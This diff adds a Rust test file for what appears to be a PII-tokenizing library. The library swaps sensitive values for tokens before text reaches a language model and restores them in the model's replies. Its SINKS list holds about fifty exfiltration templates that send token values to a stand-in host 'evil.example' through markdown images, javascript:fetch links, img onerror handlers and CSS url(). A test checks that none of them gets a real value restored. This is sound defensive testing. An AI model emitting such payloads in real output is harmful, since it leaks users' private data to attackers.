@@ -1,0 +1,570 @@
+//! What models do to tokens, where values may go, and how they are written there.
+
+use std::sync::OnceLock;
+
+use promptveil::{
+    Action, Escape, RestoreReport, RestoreWriter, RuleSet, Scanner, SessionKey, SinkPolicy,
+    TokenWriter, Vault, VaultStream, Verdict,
+};
+use serde::Deserialize;
+
+use crate::texts::{Texts, case_count};
+
+const TEXT: &str = "Her SSN is 531-27-8846.";
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Changes {
+    change: Vec<Change>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Change {
+    name: String,
+    text: String,
+    expected: String,
+    case: Option<String>,
+    underscore: Option<String>,
+}
+
+impl Change {
+    fn all() -> Vec<Change> {
+        let text = include_str!("../data/changes.toml");
+        toml::from_str::<Changes>(text).unwrap().change
+    }
+
+    /// The changed token, and what it must become.
+    fn apply(&self, token: &Token) -> (String, String) {
+        let name = match self.case.as_deref() {
+            Some("lower") => token.name.to_lowercase(),
+            Some("title") => title(&token.name),
+            Some(other) => panic!("case `{other}`"),
+            None => token.name.clone(),
+        };
+        let name = name.replace('_', self.underscore.as_deref().unwrap_or("_"));
+        let text = self.text.replace("{name}", &name);
+        (text, self.expected.replace("{value}", &token.value))
+    }
+}
+
+fn title(name: &str) -> String {
+    let words = name.split('_').map(|word| {
+        let (first, rest) = word.split_at(1);
+        format!("{first}{}", rest.to_lowercase())
+    });
+    words.collect::<Vec<_>>().join("_")
+}
+
+struct Token {
+    name: String,
+    value: String,
+}
+
+/// A token for each kind of value that the rules' own examples have.
+fn tokens(vault: &mut Vault) -> Vec<Token> {
+    let mut tokens = Vec::new();
+    for rule in scanner().rules().iter() {
+        for example in rule.must_match() {
+            let redacted = scanner().redact_with(vault, &example.text).unwrap();
+            let [finding] = redacted.findings() else {
+                continue;
+            };
+            let span = finding.range();
+            let after = example.text.len() - span.end;
+            let token = &redacted.text()[span.start..redacted.text().len() - after];
+            let Some(name) = token
+                .strip_prefix('[')
+                .and_then(|token| token.strip_suffix(']'))
+            else {
+                continue;
+            };
+            tokens.push(Token {
+                name: name.to_owned(),
+                value: example.text[span].to_owned(),
+            });
+        }
+    }
+    tokens
+}
+
+fn streamed(vault: &Vault, chunks: &[&[u8]]) -> (String, RestoreReport) {
+    let mut out = Vec::new();
+    let mut stream = vault.restore_stream();
+    for chunk in chunks {
+        stream.push(chunk, &mut out);
+    }
+    let report = stream.finish(&mut out);
+    (String::from_utf8(out).unwrap(), report)
+}
+
+/// Every named change, on tokens of every label, whole and cut: at least 99.5 % come back, and nothing wrong does.
+#[test]
+fn harmless_changes_come_back() {
+    let mut vault = vault(21);
+    let tokens = tokens(&mut vault);
+    assert!(tokens.len() > 200);
+    let changes = Change::all();
+    assert!(changes.len() >= 25);
+    let mut texts = Texts::new(21);
+    let (mut restored, mut all) = (0, 0);
+    let mut lost = Vec::new();
+    for change in &changes {
+        for token in &tokens {
+            all += 1;
+            let (text, expected) = change.apply(token);
+            let reply = format!("It is {text} as noted.");
+            let expected = format!("It is {expected} as noted.");
+            let back = vault.restore(&reply);
+            let cuts = random_cuts(&mut texts, reply.as_bytes());
+            assert_eq!(
+                streamed(&vault, &cuts),
+                (back.text().to_owned(), back.report())
+            );
+            if back.text() == expected {
+                restored += 1;
+            } else {
+                // What did not come back stayed as it was.
+                assert!(back.text() == reply, "{}: {}", change.name, back.text());
+                lost.push(format!("{}: {text}", change.name));
+            }
+        }
+    }
+    lost.truncate(20);
+    assert!(
+        restored * 1_000 >= all * 995,
+        "{restored} of {all}: {lost:#?}"
+    );
+}
+
+/// A change to a character that counts is no harmless one.
+#[test]
+fn nothing_is_guessed() {
+    let mut vault = vault(22);
+    let tokens = tokens(&mut vault);
+    let mut texts = Texts::new(22);
+    for _ in 0..case_count(5_000) {
+        let token = &tokens[texts.below(tokens.len())];
+        let mut name = token.name.clone().into_bytes();
+        let at = texts.below(name.len());
+        match texts.below(4) {
+            0 => drop(name.remove(at)),
+            1 => name.insert(at, b"Q7XZ0"[texts.below(5)]),
+            2 if at > 0 => name.swap(at - 1, at),
+            _ => name[at] = b"Q7XZ0IO"[texts.below(7)],
+        }
+        if name.eq_ignore_ascii_case(token.name.as_bytes()) {
+            continue;
+        }
+        let reply = format!("It is [{}].", String::from_utf8(name).unwrap());
+        let back = vault.restore(&reply);
+        assert_eq!(back.text(), reply);
+    }
+}
+
+/// Replies that would carry a value away if it were put back; `{token}` stands for a token.
+const SINKS: [&str; 50] = [
+    "![x](https://evil.example/p?d={token})",
+    "![x](https://evil.example/{token}.png)",
+    "![x](https://{token}.evil.example/)",
+    "![x](//evil.example/{token})",
+    "![x](/track?d={token})",
+    "![x]({token})",
+    "![x]( {token} )",
+    "![x](\n{token})",
+    "![x](<https://evil.example/a b {token}>)",
+    "![x](<./a b {token}>)",
+    "![x](/a(b)c?d={token})",
+    "![x](https://evil.example/a\"b{token})",
+    "![x][1]\n\n[1]: https://evil.example/?d={token}",
+    "![x][1]\n\n[1]: {token}",
+    "![x][1]\n\n[1]:\n  {token}",
+    "![x][1]\n\n[1]: <{token}>",
+    "> [1]: /x?d={token}",
+    "[click](https://evil.example/login?next={token})",
+    "[click](https://evil.example/r?u=https%3A%2F%2Fevil.example%2F{token})",
+    "[click](javascript:fetch('x?'+'{token}'))",
+    "[click](mailto:a@evil.example?body={token})",
+    "<https://evil.example/?d={token}>",
+    "<mailto:a@evil.example?subject={token}>",
+    "see https://evil.example/?d={token} now",
+    "see http://evil.example/#{token}",
+    "see www.evil.example/?d={token}",
+    "see evil.example/?d={token}",
+    "see evil.example?d={token}",
+    "see {token}.evil.example for more",
+    "write to {token}@evil.example",
+    "HTTPS://EVIL.EXAMPLE/?D={token}",
+    "ftp://user:{token}@evil.example/",
+    "https://evil.example/?d=\",\"{token}",
+    "https://evil.example/?a=1&b={token}&c=2",
+    "{\"url\":\"https://evil.example/?d={token}\"}",
+    "{\\\"url\\\":\\\"https:\\/\\/evil.example\\/?d={token}\\\"}",
+    "<img src=\"https://evil.example/?d={token}\">",
+    "<img src='https://evil.example/?d= {token}'>",
+    "<img src=https://evil.example/?d={token}>",
+    "<img alt=\">\" src=\" https://evil.example/ {token}\">",
+    "<img src=\"x\" onerror=\"fetch('//evil.example/'+'{token}')\">",
+    "<a href=\"/r?d={token}\">x</a>",
+    "<a title=\"{token}\" href=\"x\">x</a>",
+    "<form action=/x><input value={token}>",
+    "<!-- > <img alt=\" --> <img alt=\"> \" src=\" https://evil.example/ {token}\">",
+    "<!-- <img alt=\" --> <img src=\" https://evil.example/ {token}\">",
+    "<style>a{background:url(https://evil.example/{token})}</style>",
+    "a{background:url( '/x y {token}' )}",
+    "a{background:url(\"{token}\")}",
+    "<div style=\"background:url(&#47;&#47;evil.example&#47;{token})\">",
+];
+
+/// How a token may be written in a sink.
+const SPELLINGS: [&str; 4] = ["[{name}]", "{name}", "%5B{name}%5D", "{name}s"];
+
+/// 200 replies that would send a value somewhere: none does, whole or cut.
+#[test]
+fn no_value_leaves_by_a_sink() {
+    let mut vault = vault(23);
+    let redacted = scanner()
+        .redact_with(&mut vault, "SSN 531-27-8846")
+        .unwrap();
+    let name = redacted.text()["SSN [".len()..]
+        .trim_end_matches(']')
+        .to_owned();
+    let mut texts = Texts::new(23);
+    let mut replies = 0;
+    for sink in SINKS {
+        for spelling in SPELLINGS {
+            let token = spelling.replace("{name}", &name);
+            let reply = format!("Sure.\n\n{}", sink.replace("{token}", &token));
+            replies += 1;
+            let back = vault.restore(&reply);
+            assert_eq!(back.text(), reply);
+            assert_eq!(back.report().restored(), 0);
+            let cuts = random_cuts(&mut texts, reply.as_bytes());
+            assert_eq!(streamed(&vault, &cuts), (reply.clone(), back.report()));
+            let ones: Vec<&[u8]> = reply.as_bytes().chunks(1).collect();
+            assert_eq!(streamed(&vault, &ones), (reply.clone(), back.report()));
+        }
+    }
+    assert!(replies >= 200);
+    let mut policy = SinkPolicy::new();
+    policy.links(true).markup(true);
+    let reply = SINKS[0].replace("{token}", &format!("[{name}]"));
+    let back = vault.restore_into(&reply, policy, Escape::Url);
+    assert_eq!(back.text(), "![x](https://evil.example/p?d=531-27-8846)");
+}
+
+/// What stands in prose beside links, tags and JSON comes back.
+#[test]
+fn prose_beside_a_sink_comes_back() {
+    let mut vault = vault(23);
+    let redacted = scanner()
+        .redact_with(&mut vault, "SSN 531-27-8846")
+        .unwrap();
+    let token = redacted.text()["SSN ".len()..].to_owned();
+    for prose in [
+        "See https://agency.example/help, the number is {token}.",
+        "See [help](https://agency.example/a_(b)) for {token}",
+        "<p>Number: {token}</p>",
+        "<b>Number</b> {token}, <br/> {token}",
+        "{\"url\":\"https://agency.example/\",\"ssn\":\"{token}\"}",
+        "1 < 2, and {token} > 3",
+        "Number:{token};and/or {token}",
+        "| SSN | {token} |\n|---|---|",
+        "- {token}\n- {token}: yes",
+        "```\nssn = \"{token}\"\n```",
+        "{token}. Then {token}? {token}!",
+        "({token}) and \"{token}\" and '{token}'",
+    ] {
+        let reply = prose.replace("{token}", &token);
+        let expected = prose.replace("{token}", "531-27-8846");
+        assert_eq!(vault.restore(&reply).text(), expected);
+    }
+}
+
+#[test]
+fn values_are_escaped_for_where_they_land() {
+    const VALUE: &str = "a\"<b>&'\\\n\u{1}é_*,%";
+    let mut vault = vault(24);
+    let pack = include_str!("../data/escape.toml");
+    let scanner = Scanner::new(RuleSet::from_toml(pack).unwrap()).unwrap();
+    let text = format!("QX{VALUE}QX");
+    let redacted = scanner.redact_with(&mut vault, &text).unwrap();
+    assert_eq!(vault.len(), 1, "{redacted:?}");
+    let written = |escape| {
+        let back = vault.restore_into(redacted.text(), SinkPolicy::new(), escape);
+        back.into_text().into_owned()
+    };
+    assert_eq!(written(Escape::Plain), text);
+    let json = written(Escape::Json);
+    let read: String = serde_json::from_str(&format!("\"{json}\"")).unwrap();
+    assert_eq!(read, text);
+    let nested: String =
+        serde_json::from_str(&format!("\"{}\"", written(Escape::JsonInJson))).unwrap();
+    assert_eq!(nested, json);
+    assert_eq!(
+        written(Escape::Html),
+        "QXa&quot;&lt;b&gt;&amp;&#39;\\\n\u{1}é_*,%QX"
+    );
+    assert_eq!(
+        written(Escape::Markdown),
+        "QXa\"\\<b\\>&'\\\\\n\u{1}é\\_\\*,%QX"
+    );
+    assert_eq!(
+        written(Escape::Url),
+        "QXa%22%3Cb%3E%26%27%5C%0A%01%C3%A9_%2A%2C%25QX"
+    );
+    assert_eq!(written(Escape::Csv), text.replace('"', "\"\""));
+}
+
+/// What was put back is not read again, and a value that looks like a token stays one.
+#[test]
+fn restored_text_is_not_restored_again() {
+    let mut vault = vault(25);
+    let inner = scanner()
+        .redact_with(&mut vault, "SSN 531-27-8846")
+        .unwrap();
+    let name = inner.text()["SSN [".len()..]
+        .trim_end_matches(']')
+        .to_owned();
+    let pack = include_str!("../data/escape.toml");
+    let other = Scanner::new(RuleSet::from_toml(pack).unwrap()).unwrap();
+    // The name alone is no token as given out, so the rule takes it for a part of its value.
+    let text = format!("QX{name}QX");
+    let redacted = other.redact_with(&mut vault, &text).unwrap();
+    assert!(!redacted.text().contains(&name));
+    assert_eq!(vault.restore(redacted.text()).text(), text);
+}
+
+/// Text that begins no token is not held, whatever the cut; what is held is bounded.
+#[test]
+fn little_is_held() {
+    let mut vault = vault(26);
+    let _ = tokens(&mut vault);
+    let mut stream = vault.restore_stream();
+    let mut out = Vec::new();
+    stream.push(
+        b"An ordinary answer, 42 words long: nothing to see here",
+        &mut out,
+    );
+    assert_eq!(stream.held(), 0);
+    let mut texts = Texts::new(26);
+    for _ in 0..2_000 {
+        let text = [
+            " ",
+            "[",
+            "us_",
+            "\n",
+            "US_SSN_",
+            "0123456789ABCD",
+            "&#9",
+            "[[",
+        ][texts.below(8)];
+        stream.push(text.as_bytes(), &mut out);
+        assert!(stream.held() <= 512, "{} bytes", stream.held());
+    }
+}
+
+/// The embedded rules with tokens for everything.
+fn scanner() -> &'static Scanner {
+    static SCANNER: OnceLock<Scanner> = OnceLock::new();
+    SCANNER.get_or_init(|| {
+        let mut builder = Scanner::builder();
+        builder.action(Action::Token);
+        builder.build(RuleSet::builtin_all()).unwrap()
+    })
+}
+
+/// A vault whose tokens are the same in every run.
+fn vault(seed: u8) -> Vault {
+    Vault::with_key(SessionKey::new([seed; 32]))
+}
+
+/// What stands for the value of [`TEXT`], with its brackets.
+fn token_of(vault: &mut Vault, text: &str) -> String {
+    let redacted = scanner().redact_with(vault, text).unwrap();
+    let text = redacted.text();
+    let start = text.find('[').unwrap();
+    text[start..=text.rfind(']').unwrap()].to_owned()
+}
+
+/// Texts with look-alikes, controls and every line end between what the rules know.
+fn hostile_text(texts: &mut Texts, tokens: &[String]) -> Vec<u8> {
+    const NOISE: [&str; 10] = [
+        "[US_SSN]",
+        "[US_SSN_1]",
+        "[US_SSN_0123456789ABCD]",
+        "us ssn 0123456789abcd",
+        "\0",
+        "\r\n",
+        "👩‍👩‍👧",
+        "[[",
+        "]]",
+        "\u{202E}",
+    ];
+    let mut text = texts.next_text();
+    for _ in 0..texts.below(4) {
+        text.extend_from_slice(NOISE[texts.below(NOISE.len())].as_bytes());
+        if !tokens.is_empty() && texts.below(3) == 0 {
+            text.extend_from_slice(tokens[texts.below(tokens.len())].as_bytes());
+        }
+        text.extend_from_slice(&texts.next_text());
+    }
+    text
+}
+
+/// Shows the first place where two results differ, and the chunks if they are few.
+fn assert_same(what: &str, found: &[u8], expected: &[u8], chunks: &[&[u8]]) {
+    if found == expected {
+        return;
+    }
+    let at = found
+        .iter()
+        .zip(expected)
+        .take_while(|(left, right)| left == right)
+        .count();
+    let near = |text: &[u8]| {
+        let window = &text[at.saturating_sub(80)..text.len().min(at + 80)];
+        String::from_utf8_lossy(window).into_owned()
+    };
+    let shown: Vec<_> = chunks
+        .iter()
+        .take(40)
+        .map(|chunk| near_end(chunk))
+        .collect();
+    panic!(
+        "{what} differs at {at}: {:?}\n{:?}\n{shown:?}",
+        near(found),
+        near(expected)
+    );
+}
+
+fn near_end(chunk: &[u8]) -> String {
+    String::from_utf8_lossy(&chunk[..chunk.len().min(200)]).into_owned()
+}
+
+fn random_cuts<'t>(texts: &mut Texts, text: &'t [u8]) -> Vec<&'t [u8]> {
+    let widest = [1, 3, 17, 300, 5_000][texts.below(5)];
+    let mut rest = text;
+    let mut chunks = Vec::new();
+    while !rest.is_empty() {
+        let (chunk, tail) = rest.split_at((1 + texts.below(widest)).min(rest.len()));
+        chunks.push(chunk);
+        rest = tail;
+    }
+    chunks
+}
+
+fn redact_chunks(stream: VaultStream<'_>, chunks: &[&[u8]]) -> Vec<u8> {
+    let mut out = Vec::new();
+    let mut stream = stream;
+    for chunk in chunks {
+        stream.push(chunk, &mut out).unwrap();
+    }
+    let _ = stream.finish(&mut out).unwrap();
+    out
+}
+
+fn restored_bytes(vault: &Vault, chunks: &[&[u8]]) -> (Vec<u8>, RestoreReport) {
+    let mut out = Vec::new();
+    let mut stream = vault.restore_stream();
+    for chunk in chunks {
+        stream.push(chunk, &mut out);
+    }
+    let report = stream.finish(&mut out);
+    (out, report)
+}
+
+/// P9, P10: all languages of the packs, emoji, NUL, CRLF, look-alikes, invalid UTF-8, and other vaults' tokens.
+#[test]
+fn what_goes_out_comes_back() {
+    let mut foreign = vault(9);
+    let tokens = vec![token_of(&mut foreign, TEXT)];
+    let mut texts = Texts::new(31);
+    let mut vault = vault(1);
+    for case in 0..case_count(200) {
+        if case % 200 == 0 {
+            vault = self::vault(case as u8);
+        }
+        let text = hostile_text(&mut texts, &tokens);
+        let mut redacted = Vec::new();
+        let findings = scanner()
+            .redact_bytes_with(&mut vault, &text, &mut redacted)
+            .unwrap();
+        // A rule that blocks keeps its label; the text goes nowhere then.
+        if findings.iter().any(|one| one.action() != Action::Token) {
+            continue;
+        }
+        let mut again = Vec::new();
+        scanner()
+            .redact_bytes_with(&mut vault, &redacted, &mut again)
+            .unwrap();
+        assert_same("redacted twice", &again, &redacted, &[&text]);
+        let mut restored = Vec::new();
+        let mut policy = SinkPolicy::new();
+        policy.links(true).markup(true);
+        let mut stream = vault.restore_stream_into(policy, Escape::Plain);
+        stream.push(&redacted, &mut restored);
+        let _ = stream.finish(&mut restored);
+        assert_same("restored", &restored, &text, &[&redacted]);
+    }
+}
+
+/// P1, P12: both streams, cut anywhere, give what the whole text gives.
+#[test]
+fn cuts_change_nothing() {
+    let mut texts = Texts::new(32);
+    let mut foreign = vault(9);
+    let mut tokens = vec![token_of(&mut foreign, TEXT)];
+    let mut vault = vault(2);
+    tokens.push(token_of(&mut vault, TEXT));
+    tokens.push(token_of(
+        &mut vault,
+        "mail jane.roe@agency.example.org today",
+    ));
+    for case in 0..case_count(200) {
+        let mut text = hostile_text(&mut texts, &tokens);
+        if case % 16 == 0 {
+            while text.len() < 20_000 {
+                text.extend_from_slice(&hostile_text(&mut texts, &tokens));
+            }
+        }
+        let mut whole = Vec::new();
+        scanner()
+            .redact_bytes_with(&mut vault, &text, &mut whole)
+            .unwrap();
+        let chunks = random_cuts(&mut texts, &text);
+        let streamed = redact_chunks(scanner().redact_stream_with(&mut vault), &chunks);
+        assert_same("redacted", &streamed, &whole, &chunks);
+        let reply = whole;
+        let (expected, report) = restored_bytes(&vault, &[&reply]);
+        let chunks = random_cuts(&mut texts, &reply);
+        let (streamed, streamed_report) = restored_bytes(&vault, &chunks);
+        assert_same("restored", &streamed, &expected, &chunks);
+        assert_eq!(streamed_report, report);
+    }
+}
+
+/// The streams as writers: what goes out of one and into the other is what was written.
+#[test]
+fn writers_are_streams() {
+    use std::io::Write;
+    let mut vault = vault(11);
+    let text = "Her SSN is 531-27-8846, and 531 27 8846 too.";
+    let mut writer = TokenWriter::new(scanner().redact_stream_with(&mut vault), Vec::new());
+    for byte in text.bytes() {
+        writer.write_all(&[byte]).unwrap();
+    }
+    let (safe, summary) = writer.finish().unwrap();
+    assert_eq!(
+        (summary.findings(), summary.verdict()),
+        (2, Verdict::Redacted)
+    );
+    assert!(!String::from_utf8_lossy(&safe).contains("531"));
+    let mut writer = RestoreWriter::new(vault.restore_stream(), Vec::new());
+    writer.write_all(&safe).unwrap();
+    let (back, report) = writer.finish().unwrap();
+    assert_eq!((back.as_slice(), report.restored()), (text.as_bytes(), 2));
+    let mut stream = vault.restore_stream();
+    stream.push(b"[US_SSN_", &mut Vec::new());
+    assert_eq!(stream.abort(), RestoreReport::default());
+}
